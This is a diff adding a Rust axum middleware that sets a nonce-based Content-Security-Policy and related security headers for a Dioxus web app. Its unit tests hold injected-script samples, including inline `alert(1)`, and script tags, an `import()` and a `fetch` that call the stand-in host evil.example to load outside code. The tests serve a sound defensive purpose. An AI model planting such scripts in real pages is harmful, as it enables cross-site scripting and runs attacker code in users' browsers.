@@ -0,0 +1,239 @@
+use std::env;
+
+use axum::{
+    body::Body,
+    extract::Request,
+    http::{HeaderValue, StatusCode, header},
+    middleware::{Next, from_fn},
+    response::{IntoResponse, Response},
+};
+use base64::{Engine, engine::general_purpose::STANDARD};
+use tap::Pipe;
+use thiserror::Error;
+
+/// Placeholder in the policy that is replaced with the per request nonce.
+const NONCE_PLACEHOLDER: &str = "{nonce}";
+
+// Dioxus injects inline scripts to load and hydrate the wasm bundle, these are
+// given a nonce, see `FRAMEWORK_SCRIPTS`. `wasm-unsafe-eval` is needed to
+// compile the wasm bundle. `unsafe-eval` is needed by `document::eval`: the
+// web renderer runs the script it is given through the `AsyncFunction`
+// constructor, and it is used for printing, scrolling, focusing fields,
+// downloading exports and reading barcodes.
+const DEFAULT_POLICY: &str = "default-src 'self'; \
+     script-src 'self' 'nonce-{nonce}' 'wasm-unsafe-eval' 'unsafe-eval'{extra}; \
+     style-src 'self' 'unsafe-inline'{extra}; \
+     img-src 'self' data: blob:{images}{extra}; \
+     media-src 'self' data: blob: mediastream:; \
+     font-src 'self'{extra}; \
+     connect-src 'self'{extra}; \
+     object-src 'none'; \
+     base-uri 'self'; \
+     form-action 'self'; \
+     frame-ancestors 'none'";
+
+/// How the inline scripts Dioxus adds to the page start: streaming setup,
+/// the hydration data, streamed suspense results and the script `dx` adds to
+/// `index.html` to load the wasm bundle from this server.
+const FRAMEWORK_SCRIPTS: [&str; 4] = [
+    "window.hydrate_queue=",
+    "window.initial_dioxus_hydration_data=",
+    "window.dx_hydrate(",
+    "import(\"/./",
+];
+
+/// Largest page that is buffered to add the nonce. Pages are fully rendered
+/// before being sent as streaming is not enabled in the `ServeConfig`.
+const MAX_HTML_BYTES: usize = 4 * 1024 * 1024;
+
+#[derive(Debug, Error)]
+enum Error {
+    #[error("Failed to generate nonce: {0}")]
+    Nonce(#[from] getrandom::Error),
+    #[error("Failed to read response body: {0}")]
+    Body(#[from] axum::Error),
+}
+
+impl IntoResponse for Error {
+    fn into_response(self) -> Response {
+        tracing::error!("security headers failed: {}", self);
+        (StatusCode::INTERNAL_SERVER_ERROR, self.to_string()).into_response()
+    }
+}
+
+/// Add `Content-Security-Policy` and related headers to every response.
+///
+/// - `CONTENT_SECURITY_POLICY` - replaces the default policy entirely, any
+///   `{nonce}` in the value is replaced with the per request nonce.
+/// - `CSP_EXTRA_SOURCES` - space separated sources (e.g. a CDN) added to the
+///   script, style, image, font and connect directives of the default policy.
+///
+/// `image_origin` is where images are served from if not this server, such
+/// as the S3 endpoint. It is added to the image directive of the default
+/// policy.
+pub fn add_security_headers_middleware<S: Clone + Send + Sync + 'static>(
+    app: axum::Router<S>,
+    image_origin: Option<String>,
+) -> axum::Router<S> {
+    let policy = match env::var("CONTENT_SECURITY_POLICY") {
+        Ok(policy) => policy,
+        Err(_) => {
+            let extra = env::var("CSP_EXTRA_SOURCES")
+                .ok()
+                .filter(|sources| !sources.trim().is_empty())
+                .map(|sources| format!(" {}", sources.trim()))
+                .unwrap_or_default();
+            let images = image_origin
+                .map(|origin| format!(" {origin}"))
+                .unwrap_or_default();
+            DEFAULT_POLICY
+                .replace("{images}", &images)
+                .replace("{extra}", &extra)
+        }
+    };
+
+    app.layer(from_fn(move |request: Request, next: Next| {
+        let policy = policy.clone();
+        async move { add_headers(&policy, request, next).await }
+    }))
+}
+
+fn generate_nonce() -> Result<String, Error> {
+    let mut bytes = [0u8; 16];
+    getrandom::fill(&mut bytes)?;
+    STANDARD.encode(bytes).pipe(Ok)
+}
+
+fn is_html(response: &Response) -> bool {
+    response
+        .headers()
+        .get(header::CONTENT_TYPE)
+        .and_then(|value| value.to_str().ok())
+        .is_some_and(|value| value.starts_with("text/html"))
+}
+
+fn content_length(response: &Response) -> Option<usize> {
+    response
+        .headers()
+        .get(header::CONTENT_LENGTH)
+        .and_then(|value| value.to_str().ok())
+        .and_then(|value| value.parse().ok())
+}
+
+/// Whether the inline script starting at `body` is one of the framework's.
+/// Leading `//` comment lines, as in the wasm loader, are skipped.
+fn is_framework_script(body: &str) -> bool {
+    let mut body = body.trim_start();
+    while let Some(comment) = body.strip_prefix("//") {
+        body = comment
+            .find('\n')
+            .map_or("", |end| &comment[end..])
+            .trim_start();
+    }
+    FRAMEWORK_SCRIPTS
+        .iter()
+        .any(|start| body.starts_with(start))
+}
+
+/// Give the framework's inline scripts the nonce. Every other script is
+/// left alone, so one that ends up in rendered content is still blocked.
+/// Scripts with a `src` are allowed by origin instead.
+fn add_nonce(html: &str, nonce: &str) -> String {
+    const OPEN: &str = "<script>";
+
+    let mut output = String::with_capacity(html.len());
+    let mut rest = html;
+    while let Some(start) = rest.find(OPEN) {
+        output.push_str(&rest[..start]);
+        rest = &rest[start + OPEN.len()..];
+        if is_framework_script(rest) {
+            output.push_str(&format!("<script nonce=\"{nonce}\">"));
+        } else {
+            output.push_str(OPEN);
+        }
+    }
+    output.push_str(rest);
+    output
+}
+
+/// Buffer the page to add the nonce, giving up with an error rather than
+/// holding more than `MAX_HTML_BYTES` in memory.
+async fn add_nonce_to_scripts(response: Response, nonce: &str) -> Result<Response, Error> {
+    let (mut parts, body) = response.into_parts();
+    let bytes = axum::body::to_bytes(body, MAX_HTML_BYTES).await?;
+
+    let html = add_nonce(&String::from_utf8_lossy(&bytes), nonce);
+
+    parts.headers.remove(header::CONTENT_LENGTH);
+    Response::from_parts(parts, Body::from(html)).pipe(Ok)
+}
+
+async fn add_headers(policy: &str, request: Request, next: Next) -> Result<Response, Error> {
+    let mut response = next.run(request).await;
+
+    if is_html(&response) {
+        let nonce = generate_nonce()?;
+        // A page known to be too big is passed through without nonces, the
+        // policy then blocks its inline scripts.
+        if content_length(&response).is_some_and(|length| length > MAX_HTML_BYTES) {
+            tracing::warn!("page too large to add script nonces");
+        } else {
+            response = add_nonce_to_scripts(response, &nonce).await?;
+        }
+
+        let policy = policy.replace(NONCE_PLACEHOLDER, &nonce);
+        match HeaderValue::from_str(&policy) {
+            Ok(value) => {
+                response
+                    .headers_mut()
+                    .insert(header::CONTENT_SECURITY_POLICY, value);
+            }
+            Err(err) => tracing::error!("invalid content security policy: {}", err),
+        }
+    }
+
+    let headers = response.headers_mut();
+    headers.insert(
+        header::X_CONTENT_TYPE_OPTIONS,
+        HeaderValue::from_static("nosniff"),
+    );
+    headers.insert(
+        header::REFERRER_POLICY,
+        HeaderValue::from_static("strict-origin-when-cross-origin"),
+    );
+    headers.insert(header::X_FRAME_OPTIONS, HeaderValue::from_static("DENY"));
+
+    response.pipe(Ok)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn nonce_is_added_to_framework_scripts() {
+        let html = "<head><script>window.hydrate_queue=[];</script></head>\
+            <div id=\"main\"></div>\
+            <script>window.initial_dioxus_hydration_data=\"AA==\";</script>\
+            <script>\n  // Load the wasm bundle\n  import(\"/./wasm/app.js\").then((wasm) => wasm.__wbindgen_start());</script>";
+        let html = add_nonce(html, "abc");
+        assert_eq!(html.matches("<script nonce=\"abc\">").count(), 3);
+        assert!(!html.contains("<script>"));
+    }
+
+    #[test]
+    fn nonce_is_not_added_to_other_scripts() {
+        let html = "<div class=\"prose\"><script>alert(1)</script>\
+            <script src=\"https://evil.example/x.js\"></script>\
+            <script type=\"module\">window.dx_hydrate([1], \"\")</script></div>";
+        assert_eq!(add_nonce(html, "abc"), html);
+    }
+
+    #[test]
+    fn nonce_is_not_added_to_scripts_mentioning_the_loader() {
+        let html = "<p><script>fetch(\"https://evil.example\"); // __wbindgen_start</script>\
+            <script>import(\"//evil.example/x.js\")</script>\
+            <script>// window.hydrate_queue=\nalert(1)</script></p>";
+        assert_eq!(add_nonce(html, "abc"), html);
+    }
+}